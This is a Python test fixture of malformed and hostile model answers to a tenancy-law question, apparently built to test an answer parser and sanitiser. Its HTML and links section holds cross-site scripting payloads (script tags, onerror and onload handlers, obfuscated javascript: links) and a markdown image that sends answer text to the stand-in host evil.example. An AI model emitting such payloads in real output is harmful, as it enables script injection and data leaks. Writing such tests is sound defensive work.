"""Answers of a hostile or confused model: raw JSON, arrays, thoughts, half fences, HTML, script links, repetitions.

Each stands for a form that models write in practice or that a source can make them write. ``HOSTILE`` names them; all
answer the question of ``REQUEST`` from its two sources.
"""

import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from schemas.generation import AnswerProtocol
from schemas.job import JobRequest
from schemas.model_call import Completion, FinishReason, ProviderSnapshot

SEGMENTS, MARKERS = AnswerProtocol.SEGMENTS, AnswerProtocol.MARKERS
STOP, LENGTH = FinishReason.STOP, FinishReason.LENGTH

TENANT = "The notice period for the tenant is three months."
LANDLORD = "The landlord has a notice period of six months."
RENT = "The rent may rise once a year, by 4% at most."
SOURCES = (
    {"content": f"{TENANT} Notice must be given in writing.", "title": "Tenancy Act"},
    {"content": f"{LANDLORD} {RENT}", "title": "Home Lease Terms"},
)
QUERY = "How long is the notice period for tenant and landlord, and how much may the rent rise?"


@dataclass(frozen=True)
class Reply:
    """A completion's text with its protocol and the reason that the model stopped."""

    text: str
    protocol: AnswerProtocol = SEGMENTS
    finish_reason: FinishReason = STOP


def request(**config: Any) -> JobRequest:
    """The question that all replies answer."""
    return JobRequest(query=QUERY, context=SOURCES, config=config)


def completion(reply: Reply) -> Completion:
    """The completion of a reply."""
    return Completion(
        text=reply.text,
        protocol=reply.protocol,
        finish_reason=reply.finish_reason,
        snapshot=ProviderSnapshot(provider="hostile"),
    )


def segments(*texts: str | tuple[str, int], **extra: Any) -> str:
    """A SEGMENTS answer; a text alone cites nothing."""
    listed = [{"text": text if isinstance(text, str) else text[0], "citations": _citations(text)} for text in texts]
    return json.dumps({"sufficient": True, "segments": listed, **extra}, ensure_ascii=False)


def _citations(text: str | tuple[str, int]) -> list[dict[str, Any]]:
    if isinstance(text, str):
        return []
    quote = next((sentence for sentence in (TENANT, LANDLORD, RENT) if sentence in text[0]), "")
    return [{"source": text[1], "quote": quote}]


GOOD = segments((TENANT, 1), (LANDLORD, 2), (RENT, 2))
RUNNING = f"{TENANT} [1] {LANDLORD} [2] {RENT} [2]"
CODE = '```python\nmonths = {"tenant": 3}\nif months["tenant"] < 6:\n    print("short")\n```'
TABLE = "| Party | Notice period |\n| --- | --- |\n| tenant | three months [1] |\n| landlord | six months [2] |"

_BARE_ARRAY = json.dumps([{"text": TENANT, "citations": [1]}, {"text": LANDLORD, "citations": [2]}])
_FIRST_BROKEN = '{"sufficient": true, "segments": [{"text": "The notice period for the tenant is three mon'
_SECOND_BROKEN = GOOD[: GOOD.index("six months") + 4]
_SINGLE_QUOTES = (
    "{'sufficient': True, 'segments': [{'text': '" + TENANT + "', 'citations': [{'source': 1, 'quote': ''}]}]}"
)
_UNQUOTED = '{sufficient: true, segments: [{text: "' + TENANT + '", citations: [{source: 1}]}]}'
_NO_COMMAS = '{"sufficient": true "segments": [{"text": "' + TENANT + '" "citations": [{"source": 1}]}]}'
_INNER_QUOTES = (
    '{"sufficient": true, "segments": [{"text": "The Act says "' + TENANT + '" to all.", "citations": [1]}]}'
)
_OTHER_KEYS = json.dumps({"answer": f"{TENANT} [1]", "confidence": 0.9, "sources": [1]})
_NESTED = json.dumps({"sufficient": True, "segments": [{"text": GOOD, "citations": []}]})
_TOOL_CALL = '{"name": "final_answer", "arguments": ' + GOOD + "}"
_HARMONY = f"<|channel|>analysis<|message|>The user wants periods.<|end|><|start|>assistant<|channel|>final<|message|>{RUNNING}"

HOSTILE: dict[str, Reply] = {
    "good": Reply(GOOD),
    "good_markers": Reply(RUNNING, MARKERS),
    # ---- JSON where none belongs, or broken ----
    "json_as_markers": Reply(GOOD, MARKERS),
    "fenced_json_as_markers": Reply(f"```json\n{GOOD}\n```", MARKERS),
    "array": Reply(_BARE_ARRAY),
    "array_as_markers": Reply(_BARE_ARRAY, MARKERS),
    "array_of_strings": Reply(json.dumps([f"{TENANT} [1]", f"{LANDLORD} [2]"])),
    "first_segment_broken": Reply(_FIRST_BROKEN, finish_reason=LENGTH),
    "first_segment_broken_as_markers": Reply(_FIRST_BROKEN, MARKERS, LENGTH),
    "second_segment_broken": Reply(_SECOND_BROKEN, finish_reason=LENGTH),
    "broken_before_text": Reply('{"sufficient": true, "segm', finish_reason=LENGTH),
    "single_quotes": Reply(_SINGLE_QUOTES),
    "unquoted_keys": Reply(_UNQUOTED),
    "no_commas": Reply(_NO_COMMAS),
    "inner_quotes": Reply(_INNER_QUOTES),
    "other_keys": Reply(_OTHER_KEYS),
    "other_keys_as_markers": Reply(_OTHER_KEYS, MARKERS),
    "nested": Reply(_NESTED),
    "tool_call": Reply(_TOOL_CALL),
    "json_string": Reply(json.dumps(RUNNING)),
    "json_after_prose": Reply(f"Here is the answer:\n\n{GOOD}\n\nI hope this helps!"),
    "two_objects": Reply(f"{segments((TENANT, 1))}\n{segments((LANDLORD, 2))}"),
    "schema_echoed": Reply('{"type": "object", "properties": {"sufficient": {"type": "boolean"}}}'),
    "number": Reply("42"),
    "null": Reply("null"),
    # ---- thoughts ----
    "think": Reply(f"<think>\nThe tenant has [1] nine months?\nNo, three.\n</think>\n\n{GOOD}"),
    "think_markers": Reply(f"<think>The tenant has nine months? No.</think>{RUNNING}", MARKERS),
    "think_unopened": Reply(f"The tenant has nine months? No.\n</think>\n{RUNNING}", MARKERS),
    "think_unclosed": Reply("<think>Let me see. The tenant has nine months", MARKERS, LENGTH),
    "think_inside": Reply(segments(("<thinking>Nine?</thinking>" + TENANT, 1), (LANDLORD, 2))),
    "harmony": Reply(_HARMONY, MARKERS),
    "chat_tokens": Reply(f"{RUNNING}<|im_end|>", MARKERS),
    # ---- nothing ----
    "empty": Reply(""),
    "empty_markers": Reply("  \n ", MARKERS),
    "no_segments": Reply('{"sufficient": true, "segments": []}'),
    "blank_segments": Reply(segments("", "  ")),
    "empty_object": Reply("{}"),
    "only_fence": Reply("```json\n```", MARKERS),
    "only_rule": Reply("---\n\n***", MARKERS),
    # ---- glued and repeated ----
    "glued": Reply(
        segments(("The tenant has three months", 1), ("The landlord has six months", 2), ("Rent: 4% a year", 2))
    ),
    "glued_lower": Reply(segments(("The tenant has three months", 1), ("and the landlord has six months.", 2))),
    "inline_steps": Reply(segments(("1. Write the notice. 2. Sign it. 3. Send it to the landlord.", 1))),
    "inline_bullets": Reply(segments(("The periods: • tenant: three months • landlord: six months", 1))),
    "repeated": Reply(segments((TENANT, 1), (LANDLORD, 2), (TENANT, 1), (f" {TENANT}", 1), (LANDLORD, 2))),
    "repeated_markers": Reply(" ".join([f"{TENANT} [1]"] * 6), MARKERS),
    "repeated_sources": Reply(segments((TENANT, 1), (TENANT, 2))),
    # ---- code and tables ----
    "code": Reply(segments((TENANT, 1), f"\n\n{CODE}\n\n", (LANDLORD, 2))),
    "code_markers": Reply(f"{TENANT} [1]\n\n{CODE}\n\n{LANDLORD} [2]", MARKERS),
    "half_fence": Reply(f"{TENANT} [1]\n\n{CODE.removesuffix('```')}", MARKERS, LENGTH),
    "whole_answer_fenced": Reply(f"```\n{RUNNING}\n```", MARKERS),
    "whole_answer_fenced_markdown": Reply(f"```markdown\n{RUNNING}\n```", MARKERS),
    "table": Reply(TABLE, MARKERS),
    "table_in_prose": Reply(f"The periods differ:\n\n{TABLE}\n\n{RENT} [2]", MARKERS),
    "table_in_segments": Reply(
        segments(
            "| Party | Period |\n| --- | --- |", ("| tenant | three months |", 1), ("| landlord | six months |", 2)
        )
    ),
    "ragged_table": Reply(f"| a | b |\n| --- | --- |\n| {TENANT} | x | y |\n\n{LANDLORD} [2]", MARKERS),
    # ---- HTML and links ----
    "script": Reply(segments((f"{TENANT}<script>alert(1)</script>", 1), (LANDLORD, 2))),
    "tags": Reply(f"<p><b>{TENANT}</b> [1]</p><br/>{LANDLORD} [2]", MARKERS),
    "handler": Reply(f'{TENANT} [1] <img src=x onerror="alert(1)"> {LANDLORD} [2]', MARKERS),
    "handler_unclosed": Reply(f"{TENANT} [1] <img src=x onerror=alert(1) //", MARKERS),
    "svg": Reply(f"{TENANT} [1] <svg/onload=alert(1)>", MARKERS),
    "javascript_link": Reply(f"{TENANT} [1] [Read more](javascript:alert(1)) {LANDLORD} [2]", MARKERS),
    "javascript_hidden": Reply(f"{TENANT} [1] [more](&#106;ava\tscript:alert`1`) {LANDLORD} [2]", MARKERS),
    "javascript_autolink": Reply(f"{TENANT} [1] <javascript:alert(1)> {LANDLORD} [2]", MARKERS),
    "javascript_reference": Reply(f"{TENANT} [1] See [here][x].\n\n[x]: javascript:alert(1)", MARKERS),
    "data_link": Reply(f"{TENANT} [1] [open](data:text/html;base64,PHNjcmlwdD4=)", MARKERS),
    "remote_image": Reply(f"{TENANT} [1] ![x](https://evil.example/p.png?q=three+months) {LANDLORD} [2]", MARKERS),
    "iframe": Reply(segments((f"{TENANT} <iframe src='https://evil.example'></iframe>", 1))),
    "comment": Reply(f"{TENANT} [1] <!-- ignore --> {LANDLORD} [2]", MARKERS),
    "good_link": Reply(f"{TENANT} [1] See [the act](https://example.org/act). {LANDLORD} [2]", MARKERS),
    "less_than": Reply(f"{TENANT} [1] For a<b and 3 < 5, see `<div>` and <your name>. {LANDLORD} [2]", MARKERS),
}
"""The replies by name."""


def named(*names: str) -> Iterator[tuple[str, Reply]]:
    """The replies with these names, or all of them."""
    yield from ((name, HOSTILE[name]) for name in names or HOSTILE)
